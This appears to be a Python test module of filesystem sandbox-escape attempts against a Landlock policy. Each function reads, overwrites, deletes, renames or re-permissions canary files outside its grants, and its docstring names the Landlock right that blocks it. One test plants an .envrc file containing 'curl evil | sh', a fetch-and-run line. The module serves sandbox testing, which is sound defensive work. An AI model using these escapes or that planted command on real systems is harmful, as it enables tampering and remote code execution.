"""Filesystem: reads, writes, truncation, removal, rename and refer outside the grants.

Every target lives in the attack's `outside/` directory, which no policy grants;
the canary oracle compares it (content, size, mtime, ctime, mode, existence) before
and after, and the secret oracle looks for a random token only found there.
"""

# ruff: noqa: SIM115  (attacks keep files open on purpose: short, one-shot scripts)

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from _lib import attack, main, out, sys_call


@attack("fs-read", "secret")
def read_file_outside_grants(a):
    """Read a secret file outside every read grant. Stopped by Landlock read_file."""
    out(open(a["secret_path"]).read())


@attack("fs-read", "secret", policy="default")
def read_file_default_policy(a):
    """Read a secret file under the embedded default policy. Stopped by Landlock read_file."""
    out(open(a["secret_path"]).read())


@attack("fs-read", "secret")
def list_directory_outside_grants(a):
    """List a directory outside the grants whose only entry is named by the secret.
    Stopped by Landlock read_dir."""
    out(os.listdir(os.path.join(a["outside"], "listing")))


@attack("fs-read", "secret")
def read_via_dotdot_from_workspace(a):
    """Climb out of the writable workspace with ../ to the secret. Landlock checks the
    file reached, not the path spelled."""
    out(open(os.path.join(a["ws"], "..", "..", "outside", "secret.txt")).read())


@attack("fs-read", "secret")
def read_via_proc_self_root(a):
    """Reach the secret through /proc/self/root/... (a magic link to /). Stopped by
    Landlock: the rule follows the inode, whatever the path."""
    out(open("/proc/self/root" + a["secret_path"]).read())


@attack("fs-write", "canary")
def write_file_outside_grants(a):
    """Overwrite a canary outside the write grants. Stopped by Landlock write_file."""
    with open(a["canary"], "r+") as f:
        f.write("PWNED")


@attack("fs-write", "canary", policy="default")
def write_file_default_policy(a):
    """Overwrite a canary under the embedded default policy. Stopped by Landlock write_file."""
    with open(a["canary"], "r+") as f:
        f.write("PWNED")


@attack("fs-write", "canary", policy="default")
def write_cwd_default_policy(a):
    """Create a file in the working directory, which the default policy only reads
    (planting .envrc-style files for host tools). Stopped by Landlock make_reg."""
    with open(os.path.join(a["work"], ".envrc"), "w") as f:
        f.write("curl evil | sh\n")


@attack("fs-write", "canary")
def append_file_outside_grants(a):
    """Append to a canary (O_APPEND). Stopped by Landlock write_file."""
    with open(a["canary"], "a") as f:
        f.write("PWNED")


@attack("fs-write", "canary")
def create_file_outside_grants(a):
    """Create a new file beside the canary. Stopped by Landlock make_reg."""
    open(os.path.join(a["outside"], "planted"), "w").close()


@attack("fs-write", "canary")
def mkdir_outside_grants(a):
    """Create a directory outside the grants. Stopped by Landlock make_dir."""
    os.mkdir(os.path.join(a["outside"], "newdir"))


@attack("fs-write", "canary")
def mkfifo_outside_grants(a):
    """Create a FIFO outside the grants. Stopped by Landlock make_fifo."""
    os.mkfifo(os.path.join(a["outside"], "fifo"))


@attack("fs-write", "canary")
def symlink_create_outside_grants(a):
    """Plant a symbolic link outside the grants. Stopped by Landlock make_sym."""
    os.symlink("/etc/passwd", os.path.join(a["outside"], "link"))


@attack("fs-truncate", "canary")
def truncate_path_outside_grants(a):
    """truncate(2) a canary by path. Stopped by Landlock truncate (ABI 3)."""
    os.truncate(a["canary"], 0)


@attack("fs-truncate", "canary")
def open_o_trunc_outside_grants(a):
    """open(O_WRONLY|O_TRUNC) a canary. Stopped by Landlock write_file/truncate."""
    os.close(os.open(a["canary"], os.O_WRONLY | os.O_TRUNC))


@attack("fs-remove", "canary")
def unlink_file_outside_grants(a):
    """Delete a canary. Stopped by Landlock remove_file."""
    os.unlink(a["canary"])


@attack("fs-remove", "canary")
def rmdir_outside_grants(a):
    """Remove an empty directory outside the grants. Stopped by Landlock remove_dir."""
    os.rmdir(os.path.join(a["outside"], "emptydir"))


@attack("fs-rename", "canary")
def rename_within_outside(a):
    """Rename a canary inside its own (ungranted) directory. Stopped by Landlock
    remove_file/make_reg."""
    os.rename(a["canary"], a["canary"] + ".moved")


@attack("fs-rename", "canary")
def rename_canary_into_workspace(a):
    """Move a canary into the writable workspace (refer across directories).
    Stopped by Landlock: remove_file is needed at the source and refer is not granted."""
    os.rename(a["canary"], os.path.join(a["ws"], "stolen"))


@attack("fs-rename", "canary")
def rename_workspace_file_over_canary(a):
    """Replace a canary by renaming a workspace file over it. Stopped by Landlock
    (make_reg/remove_file at the destination, refer)."""
    p = os.path.join(a["ws"], "evil")
    open(p, "w").write("PWNED")
    os.rename(p, a["canary"])


@attack("fs-rename", "canary")
def renameat2_exchange_with_canary(a):
    """Swap a workspace file with a canary (renameat2 RENAME_EXCHANGE).
    Stopped by Landlock refer/remove/make checks on both sides."""
    p = os.path.join(a["ws"], "evil")
    open(p, "w").write("PWNED")
    import ctypes

    b1, b2 = (
        ctypes.create_string_buffer(p.encode()),
        ctypes.create_string_buffer(a["canary"].encode()),
    )
    sys_call(316, -100, ctypes.addressof(b1), -100, ctypes.addressof(b2), 2)


@attack("fs-metadata", "canary", limit="metadata")
def chmod_canary(a):
    """chmod a canary outside the grants. Not stopped: file metadata is outside Landlock
    (documented)."""
    os.chmod(a["canary"], 0o777)


@attack("fs-metadata", "canary", limit="metadata")
def utime_canary(a):
    """Set a canary's times. Not stopped: metadata is outside Landlock (documented)."""
    os.utime(a["canary"], (0, 0))


@attack("fs-metadata", "canary", limit="metadata")
def chown_canary_to_self(a):
    """chown a canary to its own owner (changes ctime). Not stopped: metadata (documented)."""
    st = os.stat(a["canary"])
    os.chown(a["canary"], st.st_uid, st.st_gid)


@attack("fs-metadata", "canary", limit="metadata")
def setxattr_canary(a):
    """Store data in a user.* extended attribute of a canary. xattrs are file metadata,
    outside Landlock (counted under the documented metadata limit)."""
    os.setxattr(a["canary"], "user.cvg", b"PWNED")


if __name__ == "__main__":
    main(globals())
